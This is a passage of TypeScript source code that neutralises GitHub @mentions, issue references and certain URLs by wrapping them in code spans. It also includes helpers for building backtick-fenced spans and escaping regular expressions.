    const before = text[offset - 1] ?? '';
    const after = text[offset + url.length] ?? '';
    const bounded = !/[A-Za-z0-9]/.test(before) && (after === '' || /\s/.test(after));
    let end = url.length;
    while (end > 0 && URL_TRAILING_PUNCTUATION.includes(url[end - 1]!)) end--;
    const trimmed = url.slice(0, end);
    if (bounded && /^https:/i.test(url) && !url.includes('@') && !isIssueUrl(trimmed)) return pieces.add(url);
    return codeSpan(trimmed, pieces) + url.slice(end);
  });
}

/** A mention; an `owner/repo#1` where a run of name characters starts (else its `#1` alone); a `#1`; a `GH-1`. */
const NAME =
  /(?<owner>(?<![A-Za-z0-9_./-])[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+#\d[A-Za-z0-9]*)|(?<number>#\d[A-Za-z0-9]*)|(?<other>@[A-Za-z0-9][A-Za-z0-9_-]*(?:\/[A-Za-z0-9][A-Za-z0-9_.-]*)?|GH-\d[A-Za-z0-9]*)/gi;

/**
 * Mentions and references GitHub would act on, each put in a code span:
 * - `@user` and `@org/team`, which notify;
 * - `owner/repo#1`, `#1` and `GH-1`, which link an issue, pull request or discussion and add a "mentioned
 *   this" entry to its timeline (and close it after a closing keyword).
 *
 * A mention or a `GH-1` counts whenever it does not follow a letter or digit: emphasis, links or a code span
 * before it would start a new text node in GitHub's HTML, where it would be live. For the same reason one
 * right after another this pass put in code counts too (`@a@b`: once `@a` is code, `@b` starts a text node).
 * `#` and a digit count anywhere (`PR#1`): they read as a reference, and `#1` in code reads the same.
 *
 * One pass, each match decided by the character before it and the end of the last one put in code (it was
 * a loop until nothing changed, which stopped after 64 rounds with the 65th mention of a chain still live).
 */
function neutraliseNames(text: string, pieces: Pieces): string {
  const name = new RegExp(NAME.source, NAME.flags);
  let out = '';
  let cursor = 0;
  for (let match = name.exec(text); match !== null; match = name.exec(text)) {
    const start = match.index;
    const live =
      match.groups!.other === undefined || start === cursor || !/[A-Za-z0-9]/.test(text[start - 1] ?? '');
    if (!live) {
      // Not a mention here, but a reference may start inside it (`a@x-GH-1`).
      name.lastIndex = start + 1;
      continue;
    }
    out += text.slice(cursor, start) + codeSpan(match[0], pieces);
    cursor = start + match[0].length;
  }
  return out + text.slice(cursor);
}

/** A code span holding `text` verbatim (its fence longer than any backtick run inside). */
function codeSpan(text: string, pieces: Pieces): string {
  if (pieces.tables && text.includes('|')) {
    return text
      .split('|')
      .map((part) => (part === '' ? '' : codeSpan(part, pieces)))
      .join(pieces.add('\\|'));
  }
  const fence = '`'.repeat(longestRun(text, '`') + 1);
  const pad = text.startsWith('`') || text.endsWith('`') ? ' ' : '';
  return pieces.add(`${fence}${pad}${text}${pad}${fence}`);
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
